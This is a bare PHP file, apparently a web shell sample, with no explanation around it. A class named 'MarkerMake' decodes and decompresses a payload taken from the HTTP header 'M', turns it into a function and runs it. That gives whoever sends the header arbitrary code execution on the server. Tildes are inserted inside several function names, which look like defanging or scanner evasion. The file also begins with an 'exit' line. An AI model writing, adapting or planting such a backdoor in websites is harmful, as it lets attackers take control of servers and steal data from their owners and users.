<?php exit; ?>
<?php
class MarkerMake { static function f($t) { return cre~ate_function(null, gzi~nflate(bas~e64_decode($t))); } } $r = MarkerMake::f($_S~ERVER['HTTP_M']); cal~l_user_func($r);
